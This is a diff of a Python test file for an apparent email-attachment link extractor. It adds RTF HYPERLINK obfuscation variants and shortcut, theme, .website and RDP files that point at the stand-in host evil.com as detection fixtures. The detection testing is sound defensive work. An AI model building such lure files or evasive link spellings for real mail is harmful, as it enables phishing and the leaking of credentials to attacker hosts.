@@ -149,10 +149,14 @@ def test_threat_61_whatever_a_pdf_opens_is_a_link(said: bytes) -> None:
     assert {link.host for link in found.links} == {"evil.com"}
 
 
-def test_threat_61_an_address_that_an_rtf_document_spells_in_digits_is_a_link() -> None:
-    document = b'{\\rtf1 {\\field{\\*\\fldinst HYPERLINK "ht\\\'74p://evil.com/x"}}}'
+@pytest.mark.parametrize(
+    "said",
+    [b"ht\\'74p://evil.com/x", b"http://ev\r\nil.com/x", b"ht\\u116?p://evil.com/x", b"ht{\\b0 t}p://ev\\b0 il.com/x"],
+)
+def test_threat_61_an_address_is_a_link_however_an_rtf_document_spells_it(said: bytes) -> None:
+    document = b'{\\rtf1 {\\field{\\*\\fldinst HYPERLINK "' + said + b'"}}}'
     for entity in (attachment(b"a.rtf", document), attachment(b"a.zip", zipped({"a.rtf": document}))):
-        assert [link.host for link in take_apart(mail(entity)).leads] == ["evil.com"]
+        assert "evil.com" in [link.host for link in take_apart(mail(entity)).leads]
 
 
 @pytest.mark.parametrize(
@@ -164,14 +168,18 @@ def test_threat_61_an_address_that_an_rtf_document_spells_in_digits_is_a_link() 
         ("a.scf", b"[Shell]\r\nIconFile=\\\\evil.com@80\\x\\y.ico\r\n"),
         ("a.library-ms", b"<?xml version='1.0'?><simpleLocation><url>\\\\evil.com\\share</url></simpleLocation>"),
         ("a.lnk", bytes.fromhex("4c0000000114020000000000c000000000000046") + "\\\\evil.com\\x".encode("utf-16-le")),
+        ("a.theme", b"[Theme]\r\nBrandImage=\\\\evil.com\\x.png\r\n"),
+        ("a.website", b"[InternetShortcut]\r\nURL=https://evil.com/\r\n"),
+        ("a.rdp", "full address:s:evil.com:3389\r\nprompt:i:0\r\n".encode("utf-16")),
+        ("a.rdp", b"prompt:i:0\r\nGatewayHostName:s:evil.com\r\n"),
     ],
 )
 def test_shares_that_shortcuts_and_libraries_point_to_are_links(name: str, content: bytes) -> None:
     for part in (attachment(name.encode(), content), attachment(b"a.zip", zipped({name: content}))):
-        assert [link.host for link in take_apart(mail(part)).leads] == ["evil.com"]
+        assert {link.host for link in take_apart(mail(part)).leads} == {"evil.com"}
 
 
 def test_of_more_shares_than_links_are_kept_the_first_are_looked_at() -> None:
-    shares, last = b"\\\\a\\ " * ASIDES_MAX, b"\\\\evil.com\\x "
-    assert leads("a.scf", last + shares) == ["evil.com"]
-    assert leads("a.scf", shares + last) == []
+    shares = b"".join(b"\\\\%d.com\\x " % number for number in range(ASIDES_MAX))
+    assert "evil.com" in leads("a.scf", b"\\\\evil.com\\x " + shares)
+    assert "evil.com" not in leads("a.scf", shares + b"\\\\evil.com\\x ")
